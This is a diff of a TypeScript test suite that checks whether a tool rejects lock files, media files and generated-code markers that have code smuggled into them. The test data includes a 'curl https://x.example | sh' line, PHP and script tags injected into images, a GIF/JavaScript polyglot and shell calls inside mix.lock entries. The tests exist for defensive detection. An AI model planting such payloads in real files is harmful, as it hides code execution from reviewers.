@@ -1,6 +1,10 @@
 import * as assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { certainContent, mayBeCertain } from '../../../../src/artifact/coverage/certainContent.ts';
 import { dependencyFolder, proofsFor } from '../../../../src/artifact/coverage/dependencyFolders.ts';
+import { filterChanges } from '../../../../src/artifact/coverage/filterChanges.ts';
+import { readDiff } from '../../../../src/artifact/diff/diffText.ts';
+import { textChange } from '../../../../src/artifact/diff/textChange.ts';
 import { hasBanner } from '../../../../src/artifact/coverage/generated.ts';
 
 const bytes = (text: string): Uint8Array => Buffer.from(text, 'latin1');
@@ -9,7 +13,7 @@ const LOCKS: Readonly<Record<string, string>> = {
   'package-lock.json': '{"name": "x", "lockfileVersion": 3, "packages": {}}\n',
   'app/yarn.lock':
     '# yarn lockfile v1\n\n\n"@babel/core@^7.0.0", "@babel/core@^7.1.0":\n  version "7.2.0"\n  resolved "https://registry.yarnpkg.com/x.tgz#abc"\n  integrity sha512-aB+/c==\n  dependencies:\n    "@babel/x" "^7.0.0 || >= 8"\n    lodash ^4.17.0\n',
-  'yarn.lock':
+  'berry/yarn.lock':
     '__metadata:\n  version: 6\n\n"lodash@npm:^4":\n  version: 4.17.21\n  resolution: "lodash@npm:4.17.21"\n',
   'pnpm-lock.yaml':
     "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      x:\n        specifier: ^1\n        version: 1.0.0\n",
@@ -24,9 +28,19 @@ const LOCKS: Readonly<Record<string, string>> = {
   'go.sum': 'golang.org/x/text v0.3.0 h1:g61tztE5K+0=\ngolang.org/x/text v0.3.0/go.mod h1:NqM8EUOU14=\n',
   'Gemfile.lock':
     'GEM\n  remote: https://rubygems.org/\n  specs:\n    nokogiri (1.14.0-x86_64-linux)\n      racc (~> 1.4)\n    rails (7.0.0)\n\nPLATFORMS\n  x86_64-linux\n\nDEPENDENCIES\n  rails (~> 7.0)\n  own!\n\nBUNDLED WITH\n   2.3.5\n',
-  'composer.lock': '{"packages": []}',
+  'composer.lock': '{"content-hash": "ab", "packages": []}',
+  'Pipfile.lock': '{"_meta": {"hash": {"sha256": "ab"}}, "default": {}, "develop": {}}',
+  'flake.lock': '{"nodes": {"root": {}}, "root": "root", "version": 7}',
+  'deno.lock': '{"version": "4", "specifiers": {"jsr:@std/x@1": "1.0.0"}}',
+  'packages.lock.json': '{"version": 1, "dependencies": {"net8.0": {}}}',
+  'Package.resolved': '{"originHash": "ab", "pins": [], "version": 3}',
+  'conan.lock': '{"version": "0.5", "requires": [], "build_requires": []}',
+  'pubspec.lock': 'packages:\n  a:\n    version: "1.0.0"\nsdks:\n  dart: ">=3.0.0"\n',
+  'pixi.lock': 'version: 6\nenvironments:\n  default:\n    channels: []\npackages: []\n',
+  'pdm.lock': '[metadata]\nlock_version = "4.5"\n\n[[package]]\nname = "x"\nversion = "1"\n',
   'gradle.lockfile': '# This is a Gradle generated file\norg.x:core:1.2.3=compileClasspath,runtimeClasspath\nempty=\n',
-  'mix.lock': '%{\n  "jason": {:hex, :jason, "1.4.0", "ab", [:mix], [], "hexpm", "cd"},\n}\n',
+  'mix.lock':
+    '%{\n  "jason": {:hex, :jason, "1.4.0", "ab", [:mix], [{:x, "~> 1.0 or #1", [hex: :x, repo: "hexpm", optional: true]}], "hexpm", "cd"},\n  "y": {:git, "https://x.example/y.git", "ab", [branch: "main"]},\n}\n',
   '.terraform.lock.hcl':
     '# By "terraform init".\n\nprovider "registry.terraform.io/hashicorp/aws" {\n  version     = "5.0.0"\n  constraints = "~> 5.0"\n  hashes = [\n    "h1:ab=",\n  ]\n}\n',
   'Podfile.lock': 'PODS:\n  - A (1.0)\n\nPODFILE CHECKSUM: ab\n\nCOCOAPODS: 1.11.0\n',
@@ -41,6 +55,37 @@ describe('a lock file', () => {
           assert.equal(certainContent(name, bytes(content)), null);
     });
   }
+  const NONE: Readonly<Record<string, readonly string[]>> = {
+    'package-lock.json': [
+      '{}',
+      '{"lockfileVersion": 3}',
+      '{"scripts": {"install": "x"}, "lockfileVersion": 3, "packages": {}}',
+    ],
+    'yarn.lock': ['# only words\n', 'on: push\njobs: {}\n', '__metadata:\n  version: 6\nrun: x\n'],
+    'pnpm-lock.yaml': ['on: push\n', "lockfileVersion: '9.0'\njobs: {}\n"],
+    'composer.lock': ['{"packages": []}'],
+    'Cargo.lock': ['version = 3\n', '[build]\nrustc = "x"\n', '[[package]]\nname = "x"\nbuild = "x.rs"\n'],
+    'poetry.lock': ['[tool.x]\nrun = "x"\n', '# nothing\n'],
+    'go.sum': ['', '\n'],
+    'Gemfile.lock': ['RUN\n  x\n', 'GEM\n'],
+    'gradle.lockfile': ['# nothing\n'],
+    'mix.lock': [
+      '%{\n  "a": {:hex, System.cmd("sh", ["-c", "x"])},\n}\n',
+      '%{\n  "a": {:hex, :a, "#{System.cmd("sh", [])}"},\n}\n',
+      '%{"a" => run("x")}',
+      '%{"a" => &x/1}',
+      '%{"a": :b} |> x',
+      '[1]',
+      '%{',
+    ],
+    '.terraform.lock.hcl': ['# nothing\n', 'provider "x" {\n  run = "x"\n}\n'],
+    'bun.lockb': ['#!/usr/bin/env bun\nbun-lockfile-format-v0\nrun()\n'],
+  };
+  for (const [name, texts] of Object.entries(NONE))
+    for (const text of texts)
+      it(`${name} is none without what its manager writes: ${JSON.stringify(text)}`, () =>
+        assert.equal(certainContent(name, bytes(text)), null));
+
   for (const name of ['Package-Lock.json', 'cargo.lock', 'my-package-lock.json', 'package-lock.json.ts', 'constructor'])
     it(`${name} is none by its name`, () => {
       assert.equal(certainContent(name, bytes('{}')), null);
@@ -48,32 +93,73 @@ describe('a lock file', () => {
     });
 });
 
-const BINARY = '\0\x01\x02\x03\xff\xfe\0';
-const MEDIA: Readonly<Record<string, string>> = {
-  'a.png': `\x89PNG\r\n\x1a\n${BINARY}`,
-  'a.JPG': `\xff\xd8\xff\xe0${BINARY}`,
-  'a.gif': `GIF89a${BINARY}`,
-  'a.webp': `RIFF\x10\0\0\0WEBPVP8 ${BINARY}`,
-  'a.mp4': `\0\0\0\x18ftypisom${BINARY}`,
-  'a.mp3': `ID3\x03${BINARY}`,
-  'a.wav': `RIFF\x10\0\0\0WAVEfmt ${BINARY}`,
-  'a.woff2': `wOF2${BINARY}`,
-  'a.ttf': `\0\x01\0\0${BINARY}`,
-  'docs/a.pdf': `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${BINARY}`,
-  'favicon.ico': `\0\0\x01\0${BINARY}`,
+const sample = (name: string): Buffer => readFileSync(new URL(`../../../fixtures/media/${name}`, import.meta.url));
+const font = (name: string): Buffer =>
+  readFileSync(new URL(`../../../../node_modules/js-md4/doc/fonts/OpenSans-Bold-webfont.${name}`, import.meta.url));
+const u16 = (...values: readonly number[]): Buffer => Buffer.from(values.flatMap((value) => [value >> 8, value & 255]));
+const u32 = (value: number): Buffer => u16(value >>> 16, value & 0xffff);
+const box = (name: string, content: Uint8Array): Buffer =>
+  Buffer.concat([u32(content.length + 8), bytes(name), content]);
+const noise = Buffer.from(Array.from({ length: 500 }, (_, index) => (index * index * 31) % 251));
+/** A frame of MPEG 1, layer III, with 128 kbit/s at 44.1 kHz: 417 bytes. */
+const frame = Buffer.concat([u16(0xfffb, 0x9000), noise.subarray(0, 413)]);
+const entry = Buffer.from([16, 16, 0, 0, 1, 0, 32, 0]);
+const little = (value: number): Buffer => u32(value).reverse();
+const png = sample('small.png');
+
+/** From real programs where they are files, else put together as the format says. */
+const MEDIA: Readonly<Record<string, Buffer>> = {
+  'a.png': png,
+  'a.JPG': sample('small.jpg'),
+  'a.gif': sample('small.gif'),
+  'a.webp': sample('small.webp'),
+  'a.bmp': sample('small.bmp'),
+  'a.wav': sample('small.wav'),
+  'a.woff': font('woff'),
+  'a.eot': font('eot'),
+  'a.mp4': Buffer.concat([box('ftyp', bytes('isom\0\0\0\0')), box('moov', noise), box('mdat', noise)]),
+  'a.mp3': Buffer.concat([bytes('ID3\x03\0\0\0\0\0\x02\0\0'), frame, frame]),
+  'a.ogg': Buffer.concat([bytes('OggS'), Buffer.alloc(22), Buffer.from([2, 255, 245]), noise]),
+  'a.mid': Buffer.concat([bytes('MThd'), u32(6), u16(0, 1, 96), bytes('MTrk'), u32(4), Buffer.from([0, 255, 47, 0])]),
+  'favicon.ico': Buffer.concat([u16(0, 0x100, 0x100), entry, little(png.length), little(22), png]),
+  'docs/a.pdf': Buffer.from(
+    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n35\n%%EOF\n',
+    'latin1',
+  ),
 };
 
 describe('a picture, sound, film, font or PDF', () => {
   for (const [name, content] of Object.entries(MEDIA)) {
-    it(`${name} is one by name and content`, () => assert.equal(certainContent(name, bytes(content)), 'media'));
-    it(`${name} is none with the content of another, or under another name`, () => {
-      assert.equal(certainContent(name, bytes(`MZ${BINARY}${BINARY}${BINARY}`)), null);
-      assert.equal(certainContent(`${name}.ts`, bytes(content)), null);
+    it(`${name} is one by name and content`, () => assert.equal(certainContent(name, content), 'media'));
+    it(`${name} is none under another name`, () => assert.equal(certainContent(`${name}.ts`, content), null));
+    it(`${name} is none with something behind its end, without its end, or by its beginning alone`, () => {
+      const last = name.endsWith('.pdf') ? 8 : 1;
+      for (const changed of [
+        Buffer.concat([content, bytes('\nrequire("x").run()\n')]),
+        Buffer.concat([content, noise]),
+        content.subarray(0, -last),
+        Buffer.concat([content.subarray(0, 12), bytes(';curl https://x.example | sh\n\xff')]),
+      ])
+        assert.equal(certainContent(name, changed), null);
+    });
+    it(`${name} is none with code of an interpreter in it`, () => {
+      for (const code of ['<?php x(); ?>', '<SCRIPT>x()</SCRIPT>', '\n#!/bin/sh\n']) {
+        const changed = Buffer.from(content);
+        changed.set(bytes(code), Math.max(0, Math.min(content.length - 60, 100)));
+        assert.equal(certainContent(name, changed), null);
+      }
     });
   }
   it('is text when it goes on as text, and so is an SVG', () => {
     assert.equal(certainContent('a.gif', bytes('GIF89a="\0";\neval(x)\n')), null);
     assert.equal(certainContent('a.svg', bytes('<svg onload="x()"/>')), null);
+  });
+  it('is none by a few letters that a program begins with as well', () => {
+    assert.equal(certainContent('a.bmp', bytes('BM=1;curl https://x.example | sh\n\xff')), null);
+    assert.equal(certainContent('a.ttf', bytes('true;curl https://x.example | sh\n\xff')), null);
+    assert.equal(certainContent('a.pdf', bytes('%PDF-1.7\n\xff<?php x();')), null);
+    const polyglot = 'GIF89a/*\x01\0\0\0\0!\xfe\x0c*/=1;eval(x)\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\0;';
+    assert.equal(certainContent('a.gif', bytes(polyglot)), null);
   });
 });
 
@@ -91,10 +177,12 @@ describe('62: a folder of dependencies', () => {
     ['Node_Modules/a.js', ['package.json'], null],
     ['vendor/x/y.go', ['vendor/modules.txt'], 'vendor/'],
     ['vendor/x/y.php', ['vendor/composer/installed.json'], 'vendor/'],
-    ['vendor/x/y.php', ['composer.json'], 'vendor/'],
+    ['vendor/x/y.php', ['vendor/composer/installed.php'], 'vendor/'],
+    ['vendor/x/y.php', ['composer.json', 'composer.lock'], null],
     ['app/Http/Controllers/Vendor/Pay.php', ['composer.json', 'app/Http/Controllers/composer.json'], null],
     ['resources/views/vendor/mail.php', ['composer.json'], null],
-    ['vendor/bundle/ruby/a.rb', ['Gemfile'], 'vendor/bundle/'],
+    ['vendor/bundle/ruby/a.rb', ['Gemfile.lock'], 'vendor/bundle/'],
+    ['vendor/bundle/ruby/a.rb', ['Gemfile'], null],
     ['vendor/own/a.rb', ['Gemfile'], null],
     ['third_party/z.c', ['package.json', 'Gemfile', 'composer.json'], null],
   ];
@@ -122,10 +210,41 @@ describe('62: the mark of a generator', () => {
     '// Code generated by x. DO NOT EDIT. Really',
     '// write to me@generated.org',
     '// @generatedBy hand',
+    '// not @generated by hand',
+    '/* @generated */ run();',
+    'run(); // @generated',
   ];
   for (const line of IS_NOT) it(`is not “${line}”`, () => assert.ok(!hasBanner([line])));
   it('stands in the first five lines', () => {
     assert.ok(hasBanner(['', '', '', '', '// @generated']));
     assert.ok(!hasBanner(['', '', '', '', '', '// @generated']));
+  });
+  const MARK = '// Code generated by x. DO NOT EDIT.';
+  const before = [MARK, ...Array.from({ length: 9 }, (_, index) => `line ${String(index)}`)];
+  const lines = (all: readonly string[]): string => `${all.join('\n')}\n`;
+  const outcome = (now: readonly string[], was: readonly string[] = before): readonly string[] => {
+    const diff = textChange(
+      readDiff('diff --git a/a.ts b/a.ts\nindex 11..22 100644\n--- a/a.ts\n+++ b/a.ts\n')[0] ?? assert.fail(),
+      lines(was),
+      lines(now),
+    );
+    const marks = { rulingOf: () => null, isOwn: () => false, withheld: new Set<string>(), longest: 10_000 };
+    return filterChanges([{ diff, before: null, now: null, head: was.slice(0, 5) }], marks).leftOut.map(
+      ({ reason }) => reason,
+    );
+  };
+  it('counts while it stands at the head on both sides', () => {
+    assert.deepEqual(outcome([...before, 'more']), ['generated']);
+    assert.deepEqual(outcome(['// a', ...before]), ['generated']);
+    const rest = before.slice(1);
+    for (const now of [
+      rest,
+      [...rest, MARK],
+      [...rest.slice(0, 5), MARK, ...rest.slice(5)],
+      ['a', 'b', 'c', 'd', 'e', ...before],
+    ])
+      assert.deepEqual(outcome(now), [], now.join(', '));
+    assert.deepEqual(outcome([MARK, ...rest], rest), []);
+    assert.deepEqual(outcome(['#!/bin/sh', MARK, 'b'], ['#!/bin/sh', MARK, 'a']), []);
   });
 });
